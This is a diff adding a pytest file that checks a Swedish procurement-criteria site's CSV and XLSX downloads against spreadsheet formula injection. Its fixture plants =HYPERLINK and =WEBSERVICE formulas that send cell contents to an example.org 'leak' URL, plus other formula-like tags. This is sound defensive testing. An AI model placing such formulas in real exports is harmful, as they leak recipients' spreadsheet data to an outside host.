@@ -1,0 +1,71 @@
+"""Downloads stay safe and honest when a contributor writes something a program could act on:
+text that looks like a spreadsheet formula stays text (OWASP's advice on CSV injection), and a
+Word file says what it is in its properties.
+
+The files are made by the download writers from a copy of the library with one hostile criterion
+and read back with openpyxl, the csv module and python-docx, as a procurer's programs would.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+from pathlib import Path
+
+import docx
+import pytest
+from openpyxl import load_workbook
+
+from kravbanken.downloads.tables import criteria_csv, criteria_xlsx, table
+from kravbanken.downloads.word import criterion_docx
+from kravbanken.model import load_library
+
+FIXTURE = Path(__file__).parent / "fixtures" / "TST-001.yaml"
+SITE_URL = "https://kravbanken.se/"
+
+TITLE = '=HYPERLINK("https://example.org/?leak="&A2,"Klicka här")'
+VERIFICATION = '=WEBSERVICE("https://example.org/?q="&B2)'
+
+
+def hostile(project: Path) -> dict:
+    """The library of `project` with TST-001 carrying formulas in its title, verification and tags."""
+    text = FIXTURE.read_text(encoding="utf-8")
+    text = text.replace("  sv: Testkrav om arbetsvillkor", f"  sv: '{TITLE}'")
+    text = text.replace("  sv: Leverantören lämnar en lista över produktionsenheter.", f"  sv: '{VERIFICATION}'")
+    text += 'tags: ["=1+1", "x", "+46 8 123", "@SUM(A1)", "-2+3"]\n'
+    (project / "criteria" / "krav" / "TST-001.yaml").write_text(text, encoding="utf-8")
+    lib = load_library(project)
+    assert lib.problems == ()
+    return lib
+
+
+@pytest.fixture
+def spreadsheet(project):
+    lib = hostile(project)
+    head, rows = table(lib, SITE_URL)
+    return lib, criteria_csv(head, rows), criteria_xlsx(head, rows)
+
+
+def test_xlsx_has_no_formula_and_shows_the_text_as_written(spreadsheet):
+    _, _, xlsx = spreadsheet
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    header = [cell.value for cell in sheet[1]]
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "TST-001")
+    assert row[header.index("Rubrik")] == TITLE
+    assert row[header.index("Verifiering")] == VERIFICATION
+    assert row[header.index("Sökord")] == "=1+1, x, +46 8 123, @SUM(A1), -2+3"
+
+
+def test_csv_marks_formula_like_cells_as_text_with_a_leading_apostrophe(spreadsheet):
+    _, raw, _ = spreadsheet
+    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
+    row = next(r for r in rows if r["Id"] == "TST-001")
+    assert row["Rubrik"] == "'" + TITLE
+    assert row["Verifiering"] == "'" + VERIFICATION
+    assert row["Sökord"] == "'=1+1, x, +46 8 123, @SUM(A1), -2+3"
+    # No cell anywhere starts with a character that makes a spreadsheet read a formula.
+    assert [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    # Ordinary text is left as it is.
+    assert row["Kravtext"].startswith("Leverantören ska inom [två (2)] veckor")
